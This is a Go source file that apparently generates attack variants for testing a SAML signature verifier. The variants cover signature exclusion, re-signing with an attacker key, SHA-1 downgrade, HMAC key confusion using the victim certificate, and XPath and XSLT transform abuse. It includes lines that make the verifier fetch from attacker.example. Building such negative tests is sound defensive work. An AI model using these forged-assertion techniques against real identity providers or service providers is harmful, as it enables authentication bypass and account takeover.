package attacks

import (
	"crypto/hmac"
	"crypto/sha1"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"hash"

	"github.com/beevik/etree"
	dsig "github.com/russellhaering/goxmldsig"

	"github.com/clavebridge/clavebridge/bridge/samlxml"
)

// Algorithm URIs the verifier must refuse.
const (
	hmacSHA1   = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
	hmacSHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
	xpathTrans = "http://www.w3.org/TR/1999/REC-xpath-19991116"
	xsltTrans  = "http://www.w3.org/TR/1999/REC-xslt-19991116"
	nsXSLT     = "http://www.w3.org/1999/XSL/Transform"
	excC14N    = "http://www.w3.org/2001/10/xml-exc-c14n#"
)

// exclusionVariants remove or empty signatures.
func exclusionVariants() []Variant {
	return []Variant{
		{SignatureExclusion, "root ds:Signature removed, evil Assertion appended", mutate(func(m *message) error {
			if _, err := m.rootSignature(); err != nil {
				return err
			}
			removeSignatures(m.root)
			a, err := m.assertion()
			if err != nil {
				evilize(m.root)
				return nil
			}
			m.root.AddChild(evilAssertion(a, evilID))
			return nil
		})},
		{SignatureExclusion, "all signatures removed", mutate(func(m *message) error {
			if _, err := m.rootSignature(); err != nil {
				return err
			}
			removeAllSignatures(m.root)
			evilizeFirstAssertion(m)
			return nil
		})},
		{SignatureExclusion, "root SignatureValue emptied", mutate(func(m *message) error {
			sig, err := m.rootSignature()
			if err != nil {
				return err
			}
			for _, sv := range samlxml.Children(sig, samlxml.NSDSig, "SignatureValue") {
				setText(sv, "")
			}
			evilizeFirstAssertion(m)
			return nil
		})},
	}
}

// resign removes every signature, puts the marker in, and signs the
// Assertion (if it was signed) and then the root with s. After signing,
// finish (if not nil) may rewrite each new Signature.
func resign(m *message, s samlxml.Signer, finish func(sig *etree.Element) error) error {
	if _, err := m.rootSignature(); err != nil {
		return err
	}
	var signedA *etree.Element
	if a, err := m.assertion(); err == nil && signature(a) != nil {
		signedA = a
	}
	removeAllSignatures(m.root)
	evilizeFirstAssertion(m)
	for _, el := range []*etree.Element{signedA, m.root} {
		if el == nil {
			continue
		}
		if err := s.Sign(el); err != nil {
			return notApplicable("cannot sign: %v", err)
		}
		if finish != nil {
			if err := finish(signature(el)); err != nil {
				return err
			}
		}
	}
	return nil
}

// setKeyInfoCert replaces sig's KeyInfo with one carrying cert.
func setKeyInfoCert(sig *etree.Element, cert *x509.Certificate) {
	for _, ki := range samlxml.Children(sig, samlxml.NSDSig, "KeyInfo") {
		sig.RemoveChild(ki)
	}
	name := func(local string) string {
		if sig.Space == "" {
			return local
		}
		return sig.Space + ":" + local
	}
	xc := sig.CreateElement(name("KeyInfo")).CreateElement(name("X509Data")).CreateElement(name("X509Certificate"))
	xc.SetText(base64.StdEncoding.EncodeToString(cert.Raw))
}

// certificateVariants re-sign with the attacker's key.
func certificateVariants(k Keys) []Variant {
	if k.Attacker == nil {
		return nil
	}
	var out []Variant
	if k.AttackerCert != nil {
		out = append(out, Variant{CertificateFaking, "re-signed by the attacker, KeyInfo carries the attacker certificate",
			mutate(func(m *message) error {
				return resign(m, samlxml.Signer{Key: k.Attacker, Cert: k.AttackerCert, IncludeCert: true}, nil)
			})})
	}
	if k.Victim != nil {
		out = append(out, Variant{CertificateFaking, "re-signed by the attacker, KeyInfo carries the victim certificate",
			mutate(func(m *message) error {
				return resign(m, samlxml.Signer{Key: k.Attacker}, func(sig *etree.Element) error {
					setKeyInfoCert(sig, k.Victim)
					return nil
				})
			})})
	}
	out = append(out, Variant{CertificateFaking, "re-signed by the attacker, no KeyInfo",
		mutate(func(m *message) error {
			return resign(m, samlxml.Signer{Key: k.Attacker}, nil)
		})})
	return out
}

// setSignatureMethod rewrites the SignatureMethod Algorithm in sig.
func setSignatureMethod(sig *etree.Element, uri string) error {
	sms := descendants(sig, samlxml.NSDSig, "SignatureMethod")
	if len(sms) == 0 {
		return notApplicable("no ds:SignatureMethod")
	}
	sms[0].CreateAttr("Algorithm", uri)
	return nil
}

// setSignatureValue replaces the SignatureValue text of sig.
func setSignatureValue(sig *etree.Element, value []byte) {
	for _, sv := range samlxml.Children(sig, samlxml.NSDSig, "SignatureValue") {
		setText(sv, base64.StdEncoding.EncodeToString(value))
	}
}

// downgradeVariants sign with SHA-1 or name a weaker method.
func downgradeVariants(k Keys) []Variant {
	out := []Variant{
		{AlgorithmDowngrade, "SignatureMethod changed in place to rsa-sha1", mutate(func(m *message) error {
			sig, err := m.rootSignature()
			if err != nil {
				return err
			}
			return setSignatureMethod(sig, samlxml.RSASHA1)
		})},
	}
	if k.Trusted == nil {
		return out
	}
	trusted := func(method, digest string) samlxml.Signer {
		return samlxml.Signer{Key: k.Trusted, Cert: k.TrustedCert, Method: method, Digest: digest,
			IncludeCert: k.TrustedCert != nil}
	}
	return append(out,
		Variant{AlgorithmDowngrade, "re-signed by the trusted key with rsa-sha1 and a sha1 digest", mutate(func(m *message) error {
			return resign(m, trusted(samlxml.RSASHA1, samlxml.DigestSHA1), nil)
		})},
		Variant{AlgorithmDowngrade, "re-signed by the trusted key with rsa-sha256 and a sha1 digest", mutate(func(m *message) error {
			return resign(m, trusted(samlxml.RSASHA256, samlxml.DigestSHA1), nil)
		})},
		Variant{AlgorithmDowngrade, "re-signed by the trusted key, SignatureMethod hmac-sha1 with a garbage value", mutate(func(m *message) error {
			return resign(m, trusted("", ""), func(sig *etree.Element) error {
				if err := setSignatureMethod(sig, hmacSHA1); err != nil {
					return err
				}
				setSignatureValue(sig, []byte(EvilMarker))
				return nil
			})
		})},
	)
}

// canonicalSignedInfo is the exclusive c14n of sig's SignedInfo.
func canonicalSignedInfo(sig *etree.Element) ([]byte, error) {
	sis := samlxml.Children(sig, samlxml.NSDSig, "SignedInfo")
	if len(sis) == 0 {
		return nil, notApplicable("no ds:SignedInfo")
	}
	return dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("").Canonicalize(detachedCopy(sis[0]))
}

// keyConfusionVariants sign with HMAC keyed by the victim's public material,
// which the attacker knows (CVE-2009-0217 family).
func keyConfusionVariants(k Keys) []Variant {
	if k.Attacker == nil || k.Victim == nil {
		return nil
	}
	hmacSign := func(uri string, h func() hash.Hash, key []byte) func(*message) error {
		return func(m *message) error {
			// The attacker's key only builds the template and digest; the
			// SignatureValue is then replaced by the HMAC.
			return resign(m, samlxml.Signer{Key: k.Attacker}, func(sig *etree.Element) error {
				if err := setSignatureMethod(sig, uri); err != nil {
					return err
				}
				canon, err := canonicalSignedInfo(sig)
				if err != nil {
					return err
				}
				mac := hmac.New(h, key)
				mac.Write(canon)
				setSignatureValue(sig, mac.Sum(nil))
				setKeyInfoCert(sig, k.Victim)
				return nil
			})
		}
	}
	return []Variant{
		{KeyConfusion, "hmac-sha256 keyed with the victim's SubjectPublicKeyInfo", mutate(hmacSign(hmacSHA256, sha256.New, k.Victim.RawSubjectPublicKeyInfo))},
		{KeyConfusion, "hmac-sha1 keyed with the victim's certificate DER", mutate(hmacSign(hmacSHA1, sha1.New, k.Victim.Raw))},
	}
}

// transformVariants add forbidden transforms or change the Reference URI of
// the root signature.
func transformVariants() []Variant {
	addTransform := func(build func(ds string) *etree.Element) func(*message) error {
		return func(m *message) error {
			sig, err := m.rootSignature()
			if err != nil {
				return err
			}
			ts := descendants(sig, samlxml.NSDSig, "Transforms")
			if len(ts) == 0 {
				return notApplicable("no ds:Transforms")
			}
			ts[0].InsertChildAt(0, build(ts[0].Space))
			evilizeFirstAssertion(m)
			return nil
		}
	}
	dsName := func(ds, local string) string {
		if ds == "" {
			return local
		}
		return ds + ":" + local
	}
	setURI := func(uri string) func(*message) error {
		return func(m *message) error {
			sig, err := m.rootSignature()
			if err != nil {
				return err
			}
			refs := descendants(sig, samlxml.NSDSig, "Reference")
			if len(refs) == 0 {
				return notApplicable("no ds:Reference")
			}
			refs[0].CreateAttr("URI", uri)
			evilizeFirstAssertion(m)
			return nil
		}
	}
	return []Variant{
		{TransformAbuse, "XPath transform excluding the NameID", mutate(addTransform(func(ds string) *etree.Element {
			t := etree.NewElement(dsName(ds, "Transform"))
			t.CreateAttr("Algorithm", xpathTrans)
			x := t.CreateElement(dsName(ds, "XPath"))
			x.CreateAttr("xmlns:saml", samlxml.NSAssertion)
			x.SetText("not(ancestor-or-self::saml:NameID) or '" + EvilMarker + "'")
			return t
		}))},
		{TransformAbuse, "XSLT transform", mutate(addTransform(func(ds string) *etree.Element {
			t := etree.NewElement(dsName(ds, "Transform"))
			t.CreateAttr("Algorithm", xsltTrans)
			ss := t.CreateElement("xsl:stylesheet")
			ss.CreateAttr("xmlns:xsl", nsXSLT)
			ss.CreateAttr("version", "1.0")
			tmpl := ss.CreateElement("xsl:template")
			tmpl.CreateAttr("match", "/")
			tmpl.CreateElement("xsl:copy-of").CreateAttr("select", "document('http://attacker.example/"+EvilMarker+"')")
			return t
		}))},
		{TransformAbuse, `Reference URI=""`, mutate(setURI(""))},
		{TransformAbuse, "external Reference URI", mutate(setURI("http://attacker.example/" + EvilMarker))},
	}
}
